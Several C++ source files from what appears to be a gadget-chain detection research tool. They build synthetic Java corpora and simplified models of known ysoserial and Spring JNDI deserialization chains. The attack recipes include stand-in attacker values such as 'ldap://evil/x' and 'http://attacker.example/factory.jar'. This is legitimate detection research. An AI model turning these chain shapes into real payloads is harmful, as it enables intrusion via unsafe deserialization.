    component.truths.push_back(planter.plant_reflection_chain(pick_flavor(rng)));
  }
  for (int i = 0; i < spec.unknown_plain; ++i) {
    RealChainOptions options;
    options.known = false;
    options.sink = pick_flavor(rng);
    component.truths.push_back(planter.plant_real_chain(options));
  }
  for (int i = 0; i < spec.unknown_iface; ++i) {
    RealChainOptions options;
    options.known = false;
    options.iface = true;
    options.sink = pick_flavor(rng);
    component.truths.push_back(planter.plant_real_chain(options));
  }
  for (int i = 0; i < spec.guarded; ++i) {
    component.fakes.push_back(planter.plant_guarded_fake(pick_flavor(rng)));
  }
  for (int i = 0; i < spec.wipe; ++i) {
    component.fakes.push_back(planter.plant_wipe_fake());
  }
  if (spec.web > 0) {
    for (FakeStructure& fake : planter.plant_const_web(spec.web)) {
      component.fakes.push_back(std::move(fake));
    }
  }
  if (spec.sl_explodes) planter.plant_explosive_web(/*hub_count=*/36, /*fan_out=*/6);

  add_noise_classes(pb, std::string(spec.pkg) + ".internal", spec.noise, seed_of(spec) ^ 0x5EED);

  component.jar.meta.name = spec.name;
  component.jar.meta.version = "sim";
  component.jar.classes = pb.build().classes();
  return component;
}

}  // namespace

jir::Program Component::link() const {
  return jar::link({jdk_base_archive(), jar});
}

const std::vector<std::string>& component_names() {
  static const std::vector<std::string> names = [] {
    std::vector<std::string> out;
    for (const ComponentSpec& spec : kSpecs) out.emplace_back(spec.name);
    return out;
  }();
  return names;
}

Component build_component(const std::string& name) {
  for (const ComponentSpec& spec : kSpecs) {
    if (name == spec.name) return build_from_spec(spec);
  }
  throw std::invalid_argument("unknown component: " + name);
}

}  // namespace tabby::corpus
