#include "corpus/scenes.hpp"

#include <stdexcept>

#include "corpus/jdk.hpp"
#include "corpus/noise.hpp"
#include "corpus/planter.hpp"

namespace tabby::corpus {

namespace {

using runtime::ObjectSpec;
using runtime::Ref;

struct SceneSpec {
  const char* name;
  const char* version;   // Table X
  const char* pkg;
  int jar_count;         // Table X "Jar file count"
  int effective;         // generic effective chains (Spring adds 3 JNDI ones)
  int guarded;           // fakes (result = effective + guarded)
  bool spring_jndi = false;
};

const SceneSpec kScenes[] = {
    {"Spring", "2.4.3", "org.springframework", 66, 4, 3, true},
    {"JDK8", "8u242", "com.sun.jdk8sim", 19, 10, 3, false},
    {"Tomcat", "8.5.47", "org.apache.catalina", 25, 3, 1, false},
    {"Jetty", "9.4.36", "org.eclipse.jetty", 67, 4, 2, false},
    {"Apache Dubbo", "3.0.2", "org.apache.dubbo", 15, 3, 2, false},
};

std::uint64_t seed_of(const SceneSpec& spec) {
  std::uint64_t h = 1469598103934665603ULL;
  for (const char* p = spec.name; *p != '\0'; ++p) {
    h ^= static_cast<unsigned char>(*p);
    h *= 1099511628211ULL;
  }
  return h;
}

/// The Table XI chains: three JNDI gadget chains through the Spring AOP /
/// JNDI support classes (the third is the CVE-2020-11619 shape).
void plant_spring_jndi(jir::ProgramBuilder& pb, std::vector<GroundTruthChain>& truths) {
  auto locator = pb.add_class("org.springframework.jndi.JndiLocatorSupport");
  locator.serializable();
  locator.field("ctx", "javax.naming.Context");
  locator.method("lookup")
      .param("java.lang.String")
      .returns("java.lang.Object")
      .field_load("cx", "@this", "ctx")
      .invoke_interface("r", "cx", "javax.naming.Context", "lookup", {"@p1"})
      .ret("r");

  auto bean_factory = pb.add_class("org.springframework.jndi.support.SimpleJndiBeanFactory");
  bean_factory.extends("org.springframework.jndi.JndiLocatorSupport").serializable();
  bean_factory.method("getBean")
      .param("java.lang.String")
      .returns("java.lang.Object")
      .invoke_virtual("r", "@this", "org.springframework.jndi.JndiLocatorSupport", "lookup",
                      {"@p1"})
      .ret("r");

  auto make_target_source = [&pb](const std::string& cls_name) {
    auto target_source = pb.add_class(cls_name);
    target_source.serializable();
    target_source.field("beanFactory", "org.springframework.jndi.support.SimpleJndiBeanFactory");
    target_source.field("targetBeanName", "java.lang.String");
    target_source.method("getTarget")
        .returns("java.lang.Object")
        .field_load("bf", "@this", "beanFactory")
        .field_load("n", "@this", "targetBeanName")
        .invoke_virtual("r", "bf", "org.springframework.jndi.support.SimpleJndiBeanFactory",
                        "getBean", {"n"})
        .ret("r");
  };
  make_target_source("org.springframework.aop.target.LazyInitTargetSource");
  make_target_source("org.springframework.aop.target.PrototypeTargetSource");

  // Deserialization entries driving each chain.
  struct Entry {
    const char* holder;
    const char* target_cls;  // empty: call getBean directly
  };
  const Entry entries[] = {
      {"org.springframework.aop.target.LazyTargetHolder",
       "org.springframework.aop.target.LazyInitTargetSource"},
      {"org.springframework.aop.target.PrototypeTargetHolder",
       "org.springframework.aop.target.PrototypeTargetSource"},
      {"org.springframework.jndi.support.BeanFactoryHolder", ""},
  };
  for (const Entry& entry : entries) {
    auto holder = pb.add_class(entry.holder);
    holder.serializable();
    GroundTruthChain truth;
    truth.id = entry.holder;
    truth.source_signature = std::string(entry.holder) + "#readObject/1";
    truth.sink_signature = "javax.naming.Context#lookup/1";
    truth.known_in_dataset = false;  // scene chains: effectiveness only

    if (entry.target_cls[0] != '\0') {
      holder.field("ts", entry.target_cls);
      holder.method("readObject")
          .param("java.io.ObjectInputStream")
          .returns("void")
          .field_load("t", "@this", "ts")
          .invoke_virtual("r", "t", entry.target_cls, "getTarget", {})
          .ret();
      truth.witnesses.push_back(std::string(entry.target_cls) + "#getTarget/0");
      truth.recipe.objects["root"] = ObjectSpec{entry.holder, {{"ts", Ref{"ts"}}}, {}};
      truth.recipe.objects["ts"] = ObjectSpec{
          entry.target_cls,
          {{"beanFactory", Ref{"bf"}}, {"targetBeanName", std::string("ldap://evil/x")}},
          {}};
    } else {
      holder.field("bf", "org.springframework.jndi.support.SimpleJndiBeanFactory");
      holder.field("name", "java.lang.String");
      holder.method("readObject")
          .param("java.io.ObjectInputStream")
          .returns("void")
          .field_load("b", "@this", "bf")
          .field_load("n", "@this", "name")
          .invoke_virtual("r", "b", "org.springframework.jndi.support.SimpleJndiBeanFactory",
                          "getBean", {"n"})
          .ret();
      truth.recipe.objects["root"] = ObjectSpec{
          entry.holder, {{"bf", Ref{"bf"}}, {"name", std::string("ldap://evil/y")}}, {}};
    }
    truth.recipe.objects["bf"] = ObjectSpec{
        "org.springframework.jndi.support.SimpleJndiBeanFactory", {{"ctx", Ref{"ctx"}}}, {}};
    truth.recipe.objects["ctx"] = ObjectSpec{"javax.naming.InitialContext", {}, {}};
    truth.recipe.root = "root";
    truths.push_back(std::move(truth));
  }
}

Scene build_from_spec(const SceneSpec& spec) {
  Scene scene;
  scene.name = spec.name;
  scene.version = spec.version;

  jir::ProgramBuilder pb;
  Planter planter(pb, spec.pkg, seed_of(spec));
  util::Rng& rng = planter.rng();

  if (spec.spring_jndi) plant_spring_jndi(pb, scene.truths);

  for (int i = 0; i < spec.effective; ++i) {
    RealChainOptions options;
    options.known = false;
    options.iface = rng.chance(1, 2);
    options.sink = kAllSinkFlavors[rng.next_below(std::size(kAllSinkFlavors))];
    scene.truths.push_back(planter.plant_real_chain(options));
  }
  for (int i = 0; i < spec.guarded; ++i) {
    scene.fakes.push_back(planter.plant_guarded_fake(
        kAllSinkFlavors[rng.next_below(std::size(kAllSinkFlavors))]));
  }
  add_noise_classes(pb, std::string(spec.pkg) + ".internal", 60, seed_of(spec) ^ 0xACE);

  jar::Archive gadget_jar;
  gadget_jar.meta.name = std::string(spec.pkg) + "-core.jar";
  gadget_jar.meta.version = spec.version;
  gadget_jar.classes = pb.build().classes();

  scene.jars.push_back(jdk_base_archive());
  scene.jars.push_back(std::move(gadget_jar));
  // Fill up to the Table X jar count with small noise jars.
  util::Rng jar_rng(seed_of(spec) ^ 0x1A55);
  for (int j = static_cast<int>(scene.jars.size()); j < spec.jar_count; ++j) {
    int classes = static_cast<int>(jar_rng.next_in(20, 70));
    scene.jars.push_back(make_noise_archive(
        "dep-" + std::to_string(j) + ".jar",
        std::string(spec.pkg) + ".dep" + std::to_string(j), classes, jar_rng.next_u64()));
  }
  return scene;
}

}  // namespace

std::size_t Scene::total_bytes() const {
  std::size_t total = 0;
  for (const jar::Archive& archive : jars) total += jar::write_archive(archive).size();
  return total;
}

jir::Program Scene::link() const { return jar::link(jars); }

const std::vector<std::string>& scene_names() {
  static const std::vector<std::string> names = [] {
    std::vector<std::string> out;
    for (const SceneSpec& spec : kScenes) out.emplace_back(spec.name);
    return out;
  }();
  return names;
}

Scene build_scene(const std::string& name) {
  for (const SceneSpec& spec : kScenes) {
    if (name == spec.name) return build_from_spec(spec);
  }
  throw std::invalid_argument("unknown scene: " + name);
}

}  // namespace tabby::corpus
