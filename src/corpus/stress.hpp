// Pathological fixtures for resource-governance testing. Unlike the Table IX
// component models, these are not meant to reproduce any paper number — they
// are adversarial classpaths engineered to blow up a specific resource while
// keeping every other dimension small. The first (and so far only) fixture is
// the MAG/CALL fan-out classpath behind the --mem-budget acceptance tests:
// its one real chain is found almost immediately, but finishing the search
// exhaustively forces the traverser to hold a frontier of hops × fan frames —
// exactly the state blow-up §V's depth cap exists to dodge.
#pragma once

#include "jar/archive.hpp"

namespace tabby::corpus {

/// Shape of the fan-out classpath. The defaults are sized so the frontier of
/// an ungoverned exhaustive search reaches hundreds of megabytes while the
/// classpath itself (program + CPG) stays an order of magnitude smaller.
struct FanoutStressSpec {
  /// Length of the real chain: Entry.readObject -> Hop_0.step -> ... ->
  /// Hop_{hops-1}.step -> Runtime.exec. Callers need --depth >= hops + 1.
  int hops = 56;
  /// Alias fan: every Hop_j implements all `aliases` interfaces, each
  /// declaring step() — so every hop node carries `aliases` outgoing ALIAS
  /// edges and the backward DFS pushes that many frames per level.
  int aliases = 4000;
  /// Call fan: Fan_i.poke() invokes every hop through an @this field, adding
  /// `call_fans` TC-compatible CALL edges per hop on top of the alias fan.
  int call_fans = 8;
  /// Plant a second, fully independent fan-out chain (own entry, hops,
  /// interfaces and call fans) ending in ClassLoader#loadClass instead of
  /// Runtime#exec. Two sinks then prune under a frontier byte pool, which
  /// the dist tests need to show a WorkerFailure partial on one sink
  /// coexisting with a MemoryPressure partial on another. Off by default —
  /// the single-sink fixture keeps its historical shape byte for byte.
  bool dual_sink = false;
};

/// Deterministic: the same spec always produces the identical archive.
jar::Archive fanout_stress_archive(const FanoutStressSpec& spec = {});

}  // namespace tabby::corpus
