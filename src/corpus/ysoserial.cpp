#include "corpus/ysoserial.hpp"

#include <stdexcept>

#include "corpus/jdk.hpp"
#include "jir/builder.hpp"

namespace tabby::corpus {

namespace {

using jir::ProgramBuilder;
using runtime::ObjectSpec;
using runtime::Ref;

constexpr const char* kTransformer = "org.apache.commons.collections.Transformer";
constexpr const char* kInvokerTransformer =
    "org.apache.commons.collections.functors.InvokerTransformer";
constexpr const char* kChainedTransformer =
    "org.apache.commons.collections.functors.ChainedTransformer";
constexpr const char* kConstantTransformer =
    "org.apache.commons.collections.functors.ConstantTransformer";
constexpr const char* kLazyMap = "org.apache.commons.collections.map.LazyMap";
constexpr const char* kTiedMapEntry = "org.apache.commons.collections.keyvalue.TiedMapEntry";
constexpr const char* kMethodInvokeSink = "java.lang.reflect.Method#invoke/2";

/// The commons-collections functor core shared by CC5 and CC6.
/// Simplifications vs the real library:
///  - InvokerTransformer holds the java.lang.reflect.Method directly (the
///    real one resolves it reflectively from iMethodName — reflection is out
///    of scope, §V-B);
///  - ChainedTransformer is unrolled to two elements (JIR has no arithmetic
///    for the loop counter);
///  - TiedMapEntry.map is typed LazyMap (statically resolvable; the real
///    field is java.util.Map).
void add_commons_collections(ProgramBuilder& pb) {
  auto transformer = pb.add_interface(kTransformer);
  transformer.method("transform").param("java.lang.Object").returns("java.lang.Object")
      .set_abstract();

  auto invoker = pb.add_class(kInvokerTransformer);
  invoker.implements(kTransformer).serializable();
  invoker.field("iMethod", "java.lang.reflect.Method");
  invoker.field("iArgs", "java.lang.Object[]");
  invoker.method("transform")
      .param("java.lang.Object")
      .returns("java.lang.Object")
      .field_load("mo", "@this", "iMethod")
      .field_load("ar", "@this", "iArgs")
      .invoke_virtual("r", "mo", "java.lang.reflect.Method", "invoke", {"@p1", "ar"})
      .ret("r");

  auto chained = pb.add_class(kChainedTransformer);
  chained.implements(kTransformer).serializable();
  chained.field("iTransformers", std::string(kTransformer) + "[]");
  chained.method("transform")
      .param("java.lang.Object")
      .returns("java.lang.Object")
      .field_load("arr", "@this", "iTransformers")
      .const_int("c0", 0)
      .array_load("t0", "arr", "c0")
      .invoke_interface("r1", "t0", kTransformer, "transform", {"@p1"})
      .const_int("c1", 1)
      .array_load("t1", "arr", "c1")
      .invoke_interface("r2", "t1", kTransformer, "transform", {"r1"})
      .ret("r2");

  auto constant = pb.add_class(kConstantTransformer);
  constant.implements(kTransformer).serializable();
  constant.field("iConstant", "java.lang.Object");
  constant.method("transform")
      .param("java.lang.Object")
      .returns("java.lang.Object")
      .field_load("v", "@this", "iConstant")
      .ret("v");

  auto lazymap = pb.add_class(kLazyMap);
  lazymap.serializable();
  lazymap.field("factory", kTransformer);
  lazymap.field("cachedValue", "java.lang.Object");
  {
    auto get = lazymap.method("get").param("java.lang.Object").returns("java.lang.Object");
    get.field_load("cached", "@this", "cachedValue")
        .const_null("nil")
        .if_cmp("cached", jir::CmpOp::Ne, "nil", "hit")
        .field_load("f", "@this", "factory")
        .invoke_interface("v", "f", kTransformer, "transform", {"@p1"})
        .ret("v")
        .mark("hit")
        .ret("cached");
  }

  auto tied = pb.add_class(kTiedMapEntry);
  tied.serializable();
  tied.field("map", kLazyMap);
  tied.field("key", "java.lang.Object");
  tied.method("getValue")
      .returns("java.lang.Object")
      .field_load("m", "@this", "map")
      .field_load("k", "@this", "key")
      .invoke_virtual("v", "m", kLazyMap, "get", {"k"})
      .ret("v");
  tied.method("toString")
      .returns("java.lang.String")
      .invoke_virtual("v", "@this", kTiedMapEntry, "getValue", {})
      .invoke_virtual("s", "v", "java.lang.Object", "toString", {})
      .ret("s");
  tied.method("hashCode")
      .returns("int")
      .invoke_virtual("v", "@this", kTiedMapEntry, "getValue", {})
      .invoke_virtual("h", "v", "java.lang.Object", "hashCode", {})
      .ret("h");
}

/// Recipe core shared by CC5/CC6: LazyMap{factory=ChainedTransformer
/// {[ConstantTransformer, InvokerTransformer]}} under a TiedMapEntry.
void add_cc_recipe_core(runtime::ObjectGraphSpec& recipe) {
  recipe.objects["tied"] =
      ObjectSpec{kTiedMapEntry, {{"map", Ref{"lazymap"}}, {"key", std::string("pwn-key")}}, {}};
  recipe.objects["lazymap"] = ObjectSpec{kLazyMap, {{"factory", Ref{"chained"}}}, {}};
  recipe.objects["chained"] =
      ObjectSpec{kChainedTransformer, {{"iTransformers", Ref{"transformers"}}}, {}};
  recipe.objects["transformers"] =
      ObjectSpec{std::string(kTransformer) + "[]", {}, {Ref{"constant"}, Ref{"invoker"}}};
  recipe.objects["constant"] =
      ObjectSpec{kConstantTransformer, {{"iConstant", std::string("target-object")}}, {}};
  recipe.objects["invoker"] = ObjectSpec{
      kInvokerTransformer, {{"iMethod", Ref{"method"}}, {"iArgs", Ref{"args"}}}, {}};
  recipe.objects["method"] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
  recipe.objects["args"] =
      ObjectSpec{"java.lang.Object[]", {}, {std::string("invoke-arg")}};
}

YsoserialModel build_urldns() {
  ProgramBuilder pb;
  auto url = pb.add_class("java.net.URL");
  url.serializable();
  url.field("host", "java.lang.String");
  url.field("handler", "java.net.URLStreamHandler");
  url.method("hashCode")
      .returns("int")
      .field_load("hd", "@this", "handler")
      .invoke_virtual("h", "hd", "java.net.URLStreamHandler", "hashCode", {"@this"})
      .ret("h");
  auto handler = pb.add_class("java.net.URLStreamHandler");
  handler.method("hashCode")
      .param("java.net.URL")
      .returns("int")
      .invoke_virtual("addr", "@this", "java.net.URLStreamHandler", "getHostAddress", {"@p1"})
      .const_int("h", 0)
      .ret("h");
  handler.method("getHostAddress")
      .param("java.net.URL")
      .returns("java.net.InetAddress")
      .field_load("host", "@p1", "host")
      .invoke_static("a", "java.net.InetAddress", "getByName", {"host"})
      .ret("a");

  YsoserialModel model;
  model.name = "URLDNS";
  model.jar.meta.name = "urldns";
  model.jar.classes = pb.build().classes();
  model.truth.id = "URLDNS";
  model.truth.source_signature = "java.util.HashMap#readObject/1";
  model.truth.sink_signature = "java.net.InetAddress#getByName/1";
  model.truth.recipe.objects["map"] =
      ObjectSpec{"java.util.HashMap", {{"key", Ref{"url"}}}, {}};
  model.truth.recipe.objects["url"] = ObjectSpec{
      "java.net.URL",
      {{"host", std::string("leak.attacker.example")}, {"handler", Ref{"h"}}}, {}};
  model.truth.recipe.objects["h"] = ObjectSpec{"java.net.URLStreamHandler", {}, {}};
  model.truth.recipe.root = "map";
  model.expected_chain = {"java.util.HashMap#readObject/1",
                          "java.util.HashMap#hash/1",
                          "java.lang.Object#hashCode/0",
                          "java.net.URL#hashCode/0",
                          "java.net.URLStreamHandler#hashCode/1",
                          "java.net.URLStreamHandler#getHostAddress/1",
                          "java.net.InetAddress#getByName/1"};
  return model;
}

YsoserialModel build_cc5() {
  ProgramBuilder pb;
  add_commons_collections(pb);
  auto bave = pb.add_class("javax.management.BadAttributeValueExpException");
  bave.serializable();
  bave.field("val", "java.lang.Object");
  bave.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .field_load("valObj", "@this", "val")
      .invoke_virtual("s", "valObj", "java.lang.Object", "toString", {})
      .ret();

  YsoserialModel model;
  model.name = "CommonsCollections5";
  model.jar.meta.name = "commons-collections-3.1";
  model.jar.classes = pb.build().classes();
  model.truth.id = "CommonsCollections5";
  model.truth.source_signature = "javax.management.BadAttributeValueExpException#readObject/1";
  model.truth.sink_signature = kMethodInvokeSink;
  model.truth.recipe.objects["root"] = ObjectSpec{
      "javax.management.BadAttributeValueExpException", {{"val", Ref{"tied"}}}, {}};
  add_cc_recipe_core(model.truth.recipe);
  model.truth.recipe.root = "root";
  model.expected_chain = {"javax.management.BadAttributeValueExpException#readObject/1",
                          "java.lang.Object#toString/0",
                          std::string(kTiedMapEntry) + "#toString/0",
                          std::string(kTiedMapEntry) + "#getValue/0",
                          std::string(kLazyMap) + "#get/1",
                          std::string(kTransformer) + "#transform/1",
                          std::string(kInvokerTransformer) + "#transform/1",
                          kMethodInvokeSink};
  return model;
}

YsoserialModel build_cc6() {
  ProgramBuilder pb;
  add_commons_collections(pb);

  YsoserialModel model;
  model.name = "CommonsCollections6";
  model.jar.meta.name = "commons-collections-3.2.1";
  model.jar.classes = pb.build().classes();
  model.truth.id = "CommonsCollections6";
  model.truth.source_signature = "java.util.HashMap#readObject/1";
  model.truth.sink_signature = kMethodInvokeSink;
  model.truth.recipe.objects["map"] =
      ObjectSpec{"java.util.HashMap", {{"key", Ref{"tied"}}}, {}};
  add_cc_recipe_core(model.truth.recipe);
  model.truth.recipe.root = "map";
  model.expected_chain = {"java.util.HashMap#readObject/1",
                          "java.util.HashMap#hash/1",
                          "java.lang.Object#hashCode/0",
                          std::string(kTiedMapEntry) + "#hashCode/0",
                          std::string(kTiedMapEntry) + "#getValue/0",
                          std::string(kLazyMap) + "#get/1",
                          std::string(kTransformer) + "#transform/1",
                          std::string(kInvokerTransformer) + "#transform/1",
                          kMethodInvokeSink};
  return model;
}

YsoserialModel build_cb1() {
  ProgramBuilder pb;
  // BeanComparator holds the getter Method directly (the real library walks
  // PropertyUtils/Introspector reflectively).
  auto comparator = pb.add_class("org.apache.commons.beanutils.BeanComparator");
  comparator.implements("java.util.Comparator").serializable();
  comparator.field("getter", "java.lang.reflect.Method");
  comparator.field("gargs", "java.lang.Object[]");
  comparator.method("compare")
      .param("java.lang.Object")
      .param("java.lang.Object")
      .returns("int")
      .field_load("mo", "@this", "getter")
      .field_load("ar", "@this", "gargs")
      .invoke_virtual("v1", "mo", "java.lang.reflect.Method", "invoke", {"@p1", "ar"})
      .const_int("c", 0)
      .ret("c");

  auto pq = pb.add_class("java.util.PriorityQueue");
  pq.serializable();
  pq.field("comparator", "java.util.Comparator");
  pq.field("e0", "java.lang.Object");
  pq.field("e1", "java.lang.Object");
  pq.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .invoke_virtual("", "@this", "java.util.PriorityQueue", "heapify", {})
      .ret();
  pq.method("heapify")
      .returns("void")
      .invoke_virtual("", "@this", "java.util.PriorityQueue", "siftDown", {})
      .ret();
  pq.method("siftDown")
      .returns("void")
      .field_load("c", "@this", "comparator")
      .field_load("a", "@this", "e0")
      .field_load("b", "@this", "e1")
      .invoke_interface("r", "c", "java.util.Comparator", "compare", {"a", "b"})
      .ret();

  YsoserialModel model;
  model.name = "CommonsBeanutils1";
  model.jar.meta.name = "commons-beanutils-1.9";
  model.jar.classes = pb.build().classes();
  model.truth.id = "CommonsBeanutils1";
  model.truth.source_signature = "java.util.PriorityQueue#readObject/1";
  model.truth.sink_signature = kMethodInvokeSink;
  model.truth.recipe.objects["pq"] = ObjectSpec{
      "java.util.PriorityQueue",
      {{"comparator", Ref{"cmp"}}, {"e0", std::string("bean-a")}, {"e1", std::string("bean-b")}},
      {}};
  model.truth.recipe.objects["cmp"] = ObjectSpec{
      "org.apache.commons.beanutils.BeanComparator",
      {{"getter", Ref{"method"}}, {"gargs", Ref{"args"}}}, {}};
  model.truth.recipe.objects["method"] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
  model.truth.recipe.objects["args"] = ObjectSpec{"java.lang.Object[]", {}, {}};
  model.truth.recipe.root = "pq";
  model.expected_chain = {"java.util.PriorityQueue#readObject/1",
                          "java.util.PriorityQueue#heapify/0",
                          "java.util.PriorityQueue#siftDown/0",
                          "java.util.Comparator#compare/2",
                          "org.apache.commons.beanutils.BeanComparator#compare/2",
                          kMethodInvokeSink};
  return model;
}

YsoserialModel build_c3p0() {
  ProgramBuilder pb;
  auto indirect = pb.add_interface("com.mchange.v2.ser.IndirectlySerialized");
  indirect.method("getObject").returns("java.lang.Object").set_abstract();

  auto reference = pb.add_class("com.mchange.v2.naming.ReferenceSerialized");
  reference.implements("com.mchange.v2.ser.IndirectlySerialized").serializable();
  reference.field("classFactoryLocation", "java.lang.String");
  reference.field("loader", "java.lang.ClassLoader");
  reference.method("getObject")
      .returns("java.lang.Object")
      .field_load("ld", "@this", "loader")
      .field_load("loc", "@this", "classFactoryLocation")
      .invoke_static("o", "com.mchange.v2.naming.ReferenceableUtils", "referenceToObject",
                     {"ld", "loc"})
      .ret("o");

  auto utils = pb.add_class("com.mchange.v2.naming.ReferenceableUtils");
  utils.method("referenceToObject")
      .set_static()
      .param("java.lang.ClassLoader")
      .param("java.lang.String")
      .returns("java.lang.Object")
      .invoke_virtual("cls", "@p1", "java.lang.ClassLoader", "loadClass", {"@p2"})
      .ret("cls");

  auto pool = pb.add_class("com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase");
  pool.serializable();
  pool.field("connectionPoolDataSource", "com.mchange.v2.ser.IndirectlySerialized");
  pool.method("readObject")
      .param("java.io.ObjectInputStream")
      .returns("void")
      .field_load("s", "@this", "connectionPoolDataSource")
      .invoke_interface("o", "s", "com.mchange.v2.ser.IndirectlySerialized", "getObject", {})
      .ret();

  YsoserialModel model;
  model.name = "C3P0";
  model.jar.meta.name = "c3p0-0.9.5";
  model.jar.classes = pb.build().classes();
  model.truth.id = "C3P0";
  model.truth.source_signature = "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase#readObject/1";
  model.truth.sink_signature = "java.lang.ClassLoader#loadClass/1";
  model.truth.recipe.objects["pool"] = ObjectSpec{
      "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
      {{"connectionPoolDataSource", Ref{"ref"}}}, {}};
  model.truth.recipe.objects["ref"] = ObjectSpec{
      "com.mchange.v2.naming.ReferenceSerialized",
      {{"classFactoryLocation", std::string("http://attacker.example/factory.jar")},
       {"loader", Ref{"loader"}}},
      {}};
  model.truth.recipe.objects["loader"] = ObjectSpec{"java.lang.ClassLoader", {}, {}};
  model.truth.recipe.root = "pool";
  model.expected_chain = {"com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase#readObject/1",
                          "com.mchange.v2.ser.IndirectlySerialized#getObject/0",
                          "com.mchange.v2.naming.ReferenceSerialized#getObject/0",
                          "com.mchange.v2.naming.ReferenceableUtils#referenceToObject/2",
                          "java.lang.ClassLoader#loadClass/1"};
  return model;
}

YsoserialModel build_rome() {
  ProgramBuilder pb;
  auto equals_bean = pb.add_class("com.rometools.rome.feed.impl.EqualsBean");
  equals_bean.serializable();
  equals_bean.field("obj", "java.lang.Object");
  equals_bean.field("beanMethod", "java.lang.reflect.Method");
  equals_bean.field("margs", "java.lang.Object[]");
  equals_bean.method("beanHashCode")
      .returns("int")
      .field_load("mo", "@this", "beanMethod")
      .field_load("o", "@this", "obj")
      .field_load("ar", "@this", "margs")
      .invoke_virtual("r", "mo", "java.lang.reflect.Method", "invoke", {"o", "ar"})
      .const_int("h", 0)
      .ret("h");

  auto object_bean = pb.add_class("com.rometools.rome.feed.impl.ObjectBean");
  object_bean.serializable();
  object_bean.field("equalsBean", "com.rometools.rome.feed.impl.EqualsBean");
  object_bean.method("hashCode")
      .returns("int")
      .field_load("eb", "@this", "equalsBean")
      .invoke_virtual("h", "eb", "com.rometools.rome.feed.impl.EqualsBean", "beanHashCode", {})
      .ret("h");

  YsoserialModel model;
  model.name = "ROME";
  model.jar.meta.name = "rome-1.0";
  model.jar.classes = pb.build().classes();
  model.truth.id = "ROME";
  model.truth.source_signature = "java.util.HashMap#readObject/1";
  model.truth.sink_signature = kMethodInvokeSink;
  model.truth.recipe.objects["map"] =
      ObjectSpec{"java.util.HashMap", {{"key", Ref{"bean"}}}, {}};
  model.truth.recipe.objects["bean"] = ObjectSpec{
      "com.rometools.rome.feed.impl.ObjectBean", {{"equalsBean", Ref{"eq"}}}, {}};
  model.truth.recipe.objects["eq"] = ObjectSpec{
      "com.rometools.rome.feed.impl.EqualsBean",
      {{"obj", std::string("templates-impl")}, {"beanMethod", Ref{"method"}},
       {"margs", Ref{"args"}}},
      {}};
  model.truth.recipe.objects["method"] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
  model.truth.recipe.objects["args"] = ObjectSpec{"java.lang.Object[]", {}, {}};
  model.truth.recipe.root = "map";
  model.expected_chain = {"java.util.HashMap#readObject/1",
                          "java.util.HashMap#hash/1",
                          "java.lang.Object#hashCode/0",
                          "com.rometools.rome.feed.impl.ObjectBean#hashCode/0",
                          "com.rometools.rome.feed.impl.EqualsBean#beanHashCode/0",
                          kMethodInvokeSink};
  return model;
}

}  // namespace

const std::vector<std::string>& ysoserial_names() {
  static const std::vector<std::string> names = {
      "URLDNS", "CommonsCollections5", "CommonsCollections6",
      "CommonsBeanutils1", "C3P0", "ROME"};
  return names;
}

YsoserialModel build_ysoserial(const std::string& name) {
  if (name == "URLDNS") return build_urldns();
  if (name == "CommonsCollections5") return build_cc5();
  if (name == "CommonsCollections6") return build_cc6();
  if (name == "CommonsBeanutils1") return build_cb1();
  if (name == "C3P0") return build_c3p0();
  if (name == "ROME") return build_rome();
  throw std::invalid_argument("unknown ysoserial model: " + name);
}

}  // namespace tabby::corpus
