// The Planter synthesises gadget-chain structures inside a component
// package. Each structure is namespaced by a counter so structures never
// share classes unless explicitly requested (shared middles reproduce the
// GadgetInspector visited-node loss of §IV-F).
//
// Structure kinds and which tool sees them:
//
//   kind        Tabby  GI   SL   VM-effective   mechanism
//   real/plain   yes   yes  yes  yes            concrete-class dispatch only
//   real/iface   yes   no   no   yes            interface-alias hop
//   reflection   no    no   no   (in concept)   statically invisible call
//   guarded      yes   no   no   NO             infeasible runtime guard (iface-gated)
//   wipe         no    yes  yes  NO             interprocedural sanitiser
//   const web    no    no   yes  NO             uncontrollable data, SL volume
//   explosive    no    no   X    NO             dense const maze: SL budget death
#pragma once

#include <cstdint>
#include <string>

#include "corpus/groundtruth.hpp"
#include "corpus/jdk.hpp"
#include "jir/builder.hpp"
#include "util/rng.hpp"

namespace tabby::corpus {

struct RealChainOptions {
  bool iface = false;           // interface-alias hop (GI/SL-blind)
  bool known = true;            // listed in the ysoserial/marshalsec dataset
  SinkFlavor sink = SinkFlavor::Exec;
  std::string shared_helper;    // reuse this helper class (plain chains only)
};

class Planter {
 public:
  Planter(jir::ProgramBuilder& pb, std::string pkg, std::uint64_t seed);

  /// Creates the helper class of a plain chain and returns its name, for use
  /// as RealChainOptions::shared_helper across several gadget classes.
  std::string make_plain_helper(SinkFlavor sink);

  GroundTruthChain plant_real_chain(const RealChainOptions& options);
  GroundTruthChain plant_reflection_chain(SinkFlavor sink);
  FakeStructure plant_guarded_fake(SinkFlavor sink);
  FakeStructure plant_wipe_fake();
  std::vector<FakeStructure> plant_const_web(int source_count);
  /// Dense uncontrollable call maze: Tabby prunes it entirely, the
  /// Serianalyzer baseline's backward search explodes in it.
  void plant_explosive_web(int hub_count, int fan_out);

  util::Rng& rng() { return rng_; }

 private:
  std::string fresh(const std::string& stem) {
    return pkg_ + "." + stem + std::to_string(counter_++);
  }

  jir::ProgramBuilder* pb_;
  std::string pkg_;
  util::Rng rng_;
  int counter_ = 0;
  std::string web_hub_;  // lazily created shared hub for const webs
};

}  // namespace tabby::corpus
