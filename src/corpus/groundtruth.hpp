// Ground-truth records for the synthetic corpus. Every *real* planted chain
// carries an attack recipe the runtime VM can execute (the automated
// equivalent of the paper's hand-written PoCs); every *fake* structure
// carries the best attempt an attacker could make, which the VM refutes.
#pragma once

#include <string>
#include <vector>

#include "runtime/objectgraph.hpp"

namespace tabby::corpus {

/// A real gadget chain planted in a component.
struct GroundTruthChain {
  std::string id;
  std::string source_signature;  // "owner#readObject/1"
  std::string sink_signature;    // "java.lang.Runtime#exec/1"
  /// Signatures that must additionally appear in a matching report (empty =
  /// source+sink matching suffices).
